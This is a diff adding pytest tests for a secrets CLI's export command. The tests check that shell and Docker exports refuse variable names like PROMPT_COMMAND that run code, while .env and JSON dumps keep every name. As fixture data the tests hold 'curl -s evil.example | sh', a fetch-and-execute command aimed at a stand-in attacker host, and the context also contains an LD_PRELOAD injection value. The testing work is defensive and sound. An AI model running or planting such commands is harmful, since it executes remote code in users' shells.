@@ -448,6 +448,28 @@ def test_export_of_a_service_refuses_a_name_run_would_refuse_unless_allowed(live
     assert "LD_PRELOAD=/tmp/evil.so" in allowed.stdout.splitlines()
 
 
+@pytest.mark.parametrize("fmt", ["shell", "docker"])
+def test_export_for_a_shell_or_docker_refuses_a_name_that_runs_code_unless_allowed(live: Live, cli, site, fmt):
+    # `. ./exports.sh` sets in the reader's own shell what the file sets: an editor's secret named
+    # PROMPT_COMMAND or BASH_ENV would run in the shell of whoever sources the export
+    live.put_secret(site, "DATABASE_URL", "postgres://db")
+    live.put_secret(site, "PROMPT_COMMAND", "curl -s evil.example | sh")
+    refused = cli("export", "--format", fmt, site=site)
+    assert refused.returncode == 1 and refused.stdout == ""
+    assert "refusing to export PROMPT_COMMAND" in refused.stderr and "evil.example" not in refused.stderr
+    assert live.audit(site, action="secret.reveal") == []
+    allowed = cli("export", "--format", fmt, "--allow-env", "PROMPT_COMMAND", site=site)
+    assert allowed.returncode == 0 and "PROMPT_COMMAND=" in allowed.stdout
+
+
+@pytest.mark.parametrize("fmt", ["env", "json"])
+def test_export_as_data_keeps_every_name(live: Live, cli, site, fmt):
+    # a .env or JSON dump is read as data (import, dotenv libraries): what it holds is not set in a shell
+    live.put_secret(site, "PROMPT_COMMAND", "kept as data")
+    result = cli("export", "--format", fmt, site=site)
+    assert result.returncode == 0 and "kept as data" in result.stdout
+
+
 def test_import_dash_reads_the_dotenv_from_standard_input(live: Live, cli, site):
     result = cli("import", "-", input="\ufeffPIPED=one\r\nOTHER='two words'\n", site=site)
     assert result.returncode == 0, result.stderr
